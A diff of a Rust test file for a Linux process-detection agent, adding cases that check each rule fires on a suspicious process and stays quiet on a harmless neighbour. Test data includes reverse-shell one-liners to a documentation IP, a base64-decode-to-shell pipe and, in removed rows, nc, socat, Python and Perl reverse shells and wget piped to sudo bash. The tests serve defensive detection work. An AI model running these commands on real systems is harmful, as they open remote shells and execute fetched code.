@@ -1,7 +1,7 @@
 //! Why: the rules that we ship are the first that people read and the first that wake them up. Each compiles without a
-//! remark, says who wrote it and why, finds what it describes, and is quiet about its nearest harmless neighbour. For
-//! each there is a real process of either kind, run under the real programs; the branches of a rule that would need
-//! other programs are tried on rows.
+//! remark, says who wrote it and why, finds what it describes, and is quiet about its nearest harmless neighbour. Here
+//! real processes of either kind run under the real programs, for every way in which a rule can look at processes; all
+//! the spellings of what every rule looks for are tried on rows, in `rules_on_rows`.
 
 #![cfg(target_os = "linux")]
 
@@ -13,15 +13,13 @@ use std::os::unix::process::CommandExt;
 use std::process::Command;
 
 use daemoneye_dsl::ruleset::RuleSet;
-use daemoneye_dsl::tables::{Catalog, Process};
-use daemoneye_dsl::types::Timestamp;
-use daemoneye_planner::{View, execute, plan};
+use daemoneye_dsl::tables::Catalog;
 use daemoneye_settings::paths::rule_sources;
 use daemoneye_tests::{Program, Stage, Suspect, project};
 use nix::sys::memfd::{MFdFlags, memfd_create};
 use serde_json::Value;
 
-const RULES_MIN: usize = 10;
+const RULES_MIN: usize = 40;
 
 /// A rule, a process that it finds and one that it does not.
 struct Case {
@@ -30,7 +28,7 @@ struct Case {
     quiet: fn(&Stage) -> Suspect,
 }
 
-const CASES: [Case; 11] = [
+const CASES: [Case; 20] = [
     Case {
         rule: "reverse_shell",
         fires: |_| shell("sleep 600; true # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
@@ -90,6 +88,56 @@ const CASES: [Case; 11] = [
         fires: |stage| stage.suspect("xmrig"),
         quiet: |stage| stage.suspect("xmrig-report"),
     },
+    Case { rule: "tunnel_tool", fires: |stage| stage.suspect("chisel"), quiet: |stage| stage.suspect("chiseler") },
+    Case { rule: "daemon_impostor", fires: |stage| stage.suspect("crond"), quiet: |stage| stage.suspect("crondump") },
+    Case {
+        rule: "preloaded_library",
+        fires: |stage| with_variable(stage, "LD_PRELOAD", "/tmp/absent.so"),
+        quiet: |stage| with_variable(stage, "LD_PRELOAD", "/usr/lib/absent.so"),
+    },
+    Case {
+        rule: "decoded_payload_executed",
+        fires: |_| shell("sleep 600; true # echo aWQ= | base64 -d | sh"),
+        quiet: |_| shell("sleep 600; true # echo aWQ= | base64 -d | less"),
+    },
+    Case {
+        rule: "working_directory_deleted",
+        fires: |stage| in_folder(stage, "doomed", "rmdir \"$PWD\"; read _"),
+        quiet: |stage| in_folder(stage, "kept", "read _"),
+    },
+    Case {
+        rule: "tool_below_server",
+        fires: |stage| {
+            stage.copy("/bin/sleep", "wget");
+            below(stage, "httpd", "sh -c '\"$0\" 600; true' \"${0%/*}/wget\"; true")
+        },
+        quiet: |stage| {
+            stage.copy("/bin/sleep", "sendmail");
+            below(stage, "httpd", "sh -c '\"$0\" 600; true' \"${0%/*}/sendmail\"; true")
+        },
+    },
+    Case {
+        rule: "data_piped_to_network",
+        fires: |stage| {
+            stage.copy("/bin/sleep", "tar");
+            stage.copy("/bin/sleep", "nc");
+            below(stage, "packer", "\"${0%/*}/tar\" 600 | \"${0%/*}/nc\" 600; true")
+        },
+        quiet: |stage| {
+            stage.copy("/bin/sleep", "tee");
+            below(stage, "printer", "\"${0%/*}/tee\" 600 | \"${0%/*}/nc\" 600; true")
+        },
+    },
+    Case {
+        rule: "ssh_fan_out",
+        fires: |stage| repeated(stage, "ssh", "600 601 602 603 604 605 606 607 608 609"),
+        quiet: |stage| repeated(stage, "ssh", "600 600 600 600 600 600 600 600 600 600"),
+    },
+    Case {
+        rule: "password_guessing",
+        fires: |stage| repeated(stage, "su", "600 600 600 600 600 600 600 600 600 600"),
+        quiet: |stage| repeated(stage, "su", "600 600 600 600 600 600 600 600 600"),
+    },
 ];
 
 /// A shell that is told `script`, which ends with another command than its last: it stays a shell.
@@ -137,6 +185,31 @@ fn burst(stage: &Stage, tools: &[&str]) -> Suspect {
     below(stage, "prober", &format!("for tool in {}; do \"${{0%/*}}/$tool\" 600 & done; wait", tools.join(" ")))
 }
 
+/// A sleep with this variable in its environment.
+fn with_variable(stage: &Stage, name: &str, value: &str) -> Suspect {
+    let mut command = Command::new(stage.copy("/bin/sleep", &value.replace('/', "-")));
+    command.arg("600").env(name, value);
+    Suspect::start(command)
+}
+
+/// A shell without a terminal in a folder of its own, doing `script`. It is in another session, out of reach of the
+/// signal that ends a suspect: it has to end with its input.
+fn in_folder(stage: &Stage, name: &str, script: &str) -> Suspect {
+    let folder = stage.bin().join(name);
+    fs::create_dir(&folder).unwrap();
+    let mut command = Command::new("setsid");
+    command.args(["--wait", "sh", "-c", script]).current_dir(folder);
+    Suspect::start(command)
+}
+
+/// A shell that starts this tool at once with each of these arguments.
+fn repeated(stage: &Stage, tool: &str, arguments: &str) -> Suspect {
+    if !stage.bin().join(tool).exists() {
+        stage.copy("/bin/sleep", tool);
+    }
+    below(stage, "repeater", &format!("for n in {arguments}; do \"${{0%/*}}/{tool}\" $n & done; wait"))
+}
+
 /// Whether the alert's process is this one, or one that it started.
 fn is_about(alert: &Value, suspect: &Suspect) -> bool {
     let ancestors = alert["ancestors"].as_array().into_iter().flatten();
@@ -163,8 +236,8 @@ fn every_rule_compiles_without_a_remark_and_says_what_it_is() {
         assert!(header.tags.contains(&format!("attack.{tactic}")), "{path} does not have its folder's tactic as a tag");
     }
     let rules: BTreeSet<_> = set.rules().map(|rule| rule.name().to_owned()).collect();
-    let cases: BTreeSet<_> = CASES.iter().map(|case| case.rule.to_owned()).collect();
-    assert_eq!(rules, cases, "every rule has a case here");
+    let strays: Vec<_> = CASES.iter().filter(|case| !rules.contains(case.rule)).map(|case| case.rule).collect();
+    assert!(strays.is_empty(), "no such rules: {strays:?}");
 }
 
 #[test]
@@ -193,48 +266,4 @@ fn every_rule_finds_what_it_describes_and_not_its_neighbour() {
     }
     assert_eq!(agent.said("quarantined"), 0, "{}", agent.log());
     agent.stop();
-}
-
-/// Rule, name, command line, program, whether it fires.
-const ROWS: [(&str, &str, &str, &str, bool); 22] = [
-    ("reverse_shell", "nc", "nc -e /bin/sh 192.0.2.1 4444", "/usr/bin/nc", true),
-    ("reverse_shell", "ncat", "ncat 192.0.2.1 4444 --sh-exec /bin/bash", "/usr/bin/ncat", true),
-    ("reverse_shell", "nc", "nc -zv 192.0.2.1 22", "/usr/bin/nc", false),
-    ("reverse_shell", "socat", "socat TCP:192.0.2.1:1 EXEC:/bin/bash,pty", "/usr/bin/socat", true),
-    ("reverse_shell", "socat", "socat TCP-LISTEN:80 TCP:192.0.2.1:80", "/usr/bin/socat", false),
-    ("reverse_shell", "python3", "python3 -c import socket,os;os.dup2(s.fileno(),0)", "/usr/bin/python3", true),
-    ("reverse_shell", "python3", "python3 -m http.server", "/usr/bin/python3", false),
-    ("reverse_shell", "perl", "perl -e use Socket;exec(\"/bin/sh -i\")", "/usr/bin/perl", true),
-    ("kernel_thread_masquerade", "kworker/u8:2", "kworker/u8:2", "/tmp/x", true),
-    ("kernel_thread_masquerade", "kthreadd", "./kthreadd", "/home/u/kthreadd", true),
-    ("kernel_thread_masquerade", "kworkerd", "kworkerd", "/usr/bin/kworkerd", false),
-    ("executable_in_temp", "x", "x", "/dev/shm/x", true),
-    ("executable_in_temp", "x", "x", "/var/tmp/a/b/x", true),
-    ("executable_in_temp", "x", "x", "/home/u/tmp/x", false),
-    ("hidden_executable", "x", "x", "/dev/shm/.cache/x", true),
-    ("hidden_executable", "x", "x", "/home/u/.local/bin/x", false),
-    ("cryptocurrency_miner", "java", "java -o STRATUM+ssl://pool:3333", "/usr/bin/java", true),
-    ("cryptocurrency_miner", "x", "x --donate-level 1", "/usr/bin/x", true),
-    ("cryptocurrency_miner", "stratum", "stratum --help", "/usr/bin/stratum", false),
-    ("download_piped_to_shell", "bash", "bash -c wget -qO- http://x | sudo /bin/bash", "/usr/bin/bash", true),
-    ("download_piped_to_shell", "bash", "bash -c curl http://x -o f; sh f", "/usr/bin/bash", false),
-    ("fileless_execution", "x", "x", "/home/memfd:x", false),
-];
-
-#[test]
-fn the_branches_of_a_rule_hold_on_rows() {
-    let set = checked();
-    for (name, process, command_line, program, fires) in ROWS {
-        let rule = set.rules().find(|rule| rule.name() == name).unwrap();
-        let rows = Process::batch(&[Process {
-            proc_id: "00000000000000aa".to_owned(),
-            name: process.to_owned(),
-            command_line: Some(command_line.to_owned()),
-            executable_path: Some(program.to_owned()),
-            file_exists: Some(true),
-            ..Process::default()
-        }]);
-        let answer = execute(&plan(&rule.query), &View::new(Some(&rows), None), Timestamp(0)).unwrap();
-        assert_eq!(answer.rows.num_rows() == 1, fires, "{name} on `{command_line}` at {program}");
-    }
 }
